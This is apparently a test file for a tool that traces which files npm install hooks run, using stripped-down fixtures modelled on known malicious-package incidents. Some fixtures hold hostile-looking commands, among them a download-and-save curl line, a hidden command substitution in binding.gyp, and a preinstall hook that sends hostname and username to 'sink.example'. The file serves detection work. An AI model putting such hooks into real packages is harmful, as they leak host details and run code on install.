import { describe, expect, it } from 'vitest';
import { commandSigns } from '../../../src/content/reach/command-signs.ts';
import { reachOf } from '../../../src/content/reach/reach.ts';
import { aPackage, type Files, largeBytes, paths } from './given.ts';

/** What the packages were made of that ran something at install, with nothing of what they did. */
interface Incident {
  readonly scripts?: Readonly<Record<string, string>>;
  readonly files: Files;
  readonly expected: {
    readonly runs?: readonly string[];
    readonly inClone?: readonly string[];
    readonly named?: readonly string[];
    readonly missing?: readonly string[];
    readonly signs?: readonly string[];
  };
}

const payload = 3 * largeBytes;
const runsByBun = "const p = path.join(__dirname, 'bun_environment.js'); spawn(bun, [p]);";

const incidents: Readonly<Record<string, Incident>> = {
  'eslint-scope 2018': {
    scripts: { postinstall: 'node ./lib/build.js' },
    files: { 'lib/build.js': '' },
    expected: { runs: ['lib/build.js'] },
  },
  'ua-parser-js 2021': {
    scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' },
    files: {
      'preinstall.js': "exec('cmd.exe', ['/c', 'preinstall.bat']); exec('/bin/bash', ['preinstall.sh'])",
      'preinstall.bat': 'curl x -o jsextension.exe',
      'preinstall.sh': './jsextension',
      jsextension: '',
    },
    expected: {
      runs: ['jsextension', 'preinstall.bat', 'preinstall.js', 'preinstall.sh'],
      signs: ['background'],
    },
  },
  'coa 2021, the version without its file': {
    scripts: { preinstall: 'start /B node compile.js & node compile.js' },
    files: {},
    expected: { missing: ['compile.js'], signs: ['background'] },
  },
  'eslint-config-prettier 2025': {
    scripts: { install: 'node install.js' },
    files: {
      'install.js': "spawn('rundll32', [path.join(__dirname, './node-gyp.dll') + ',main'])",
      'node-gyp.dll': payload,
    },
    expected: { runs: ['install.js'], named: ['node-gyp.dll'] },
  },
  'nx 2025': {
    scripts: { postinstall: 'node telemetry.js' },
    files: { 'telemetry.js': '' },
    expected: { runs: ['telemetry.js'] },
  },
  'Shai-Hulud': {
    scripts: { postinstall: 'node bundle.js' },
    files: { 'bundle.js': payload },
    expected: { runs: ['bundle.js'] },
  },
  'Shai-Hulud 2': {
    scripts: { preinstall: 'node setup_bun.js' },
    files: { 'setup_bun.js': runsByBun, 'bun_environment.js': payload },
    expected: { runs: ['bun_environment.js', 'setup_bun.js'], named: ['bun_environment.js'] },
  },
  'a worm that bun runs': {
    scripts: { preinstall: 'bun run bw1.js' },
    files: { 'bw1.js': payload },
    expected: { runs: ['bw1.js'], signs: ['other-runtime'] },
  },
  'SAP 2026': {
    scripts: { preinstall: 'node setup.mjs' },
    files: { 'setup.mjs': 'execFileSync(bun, ["execution.js"])', 'execution.js': payload },
    expected: { runs: ['execution.js', 'setup.mjs'], named: ['execution.js'] },
  },
  'keyv 2026': {
    scripts: { preinstall: 'node setup.mjs' },
    files: {
      'setup.mjs': "const at = new URL('./Math_Symbol.js', import.meta.url)",
      'Math_Symbol.js': payload,
    },
    expected: { runs: ['Math_Symbol.js', 'setup.mjs'], named: ['Math_Symbol.js'] },
  },
  'TanStack 2026, the commit that it depended on': {
    scripts: { prepare: 'bun run tanstack_runner.js && exit 1' },
    files: { 'tanstack_runner.js': payload },
    expected: { inClone: ['tanstack_runner.js'] },
  },
  'jscrambler 2026': {
    scripts: { preinstall: 'node dist/setup.js' },
    files: {
      'dist/setup.js': "gunzipSync(readFileSync(join(__dirname, 'intro.js')))",
      'dist/intro.js': payload,
    },
    expected: { runs: ['dist/intro.js', 'dist/setup.js'], named: ['dist/intro.js'] },
  },
  'Phantom Gyp 2026': {
    files: {
      'binding.gyp':
        '{"targets":[{"type":"none","sources":["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]}]}',
      'index.js': payload,
    },
    expected: { runs: ['binding.gyp', 'index.js'] },
  },
  'axios 2026, its new dependency': {
    scripts: { postinstall: 'node setup.js' },
    files: { 'setup.js': '' },
    expected: { runs: ['setup.js'] },
  },
  'a name of somebody else, to be asked by mistake': {
    scripts: { preinstall: 'curl "https://sink.example/?h=$(hostname)&u=$(whoami)"' },
    files: {},
    expected: { signs: ['address', 'fetch-tool', 'substitution', 'unknown-program'] },
  },
};

describe('what ran in', () => {
  it.each(Object.entries(incidents))('%s', (_name, { scripts = {}, files, expected }) => {
    const given = aPackage({ name: 'teapot', scripts }, files);
    const { install, clone } = reachOf(given);
    expect([...paths(install.files)].sort()).toEqual(expected.runs ?? []);
    expect(paths(clone.files)).toEqual(expected.inClone ?? []);
    expect(paths(install.named)).toEqual(expected.named ?? []);
    expect(install.missing).toEqual(expected.missing ?? []);
    const hook = Object.entries(scripts).find(([event]) => event !== 'prepare')?.[1] ?? '';
    const signs = commandSigns(hook, given).map(({ sign }) => sign);
    expect([...new Set(signs)].sort()).toEqual(expected.signs ?? []);
  });
});
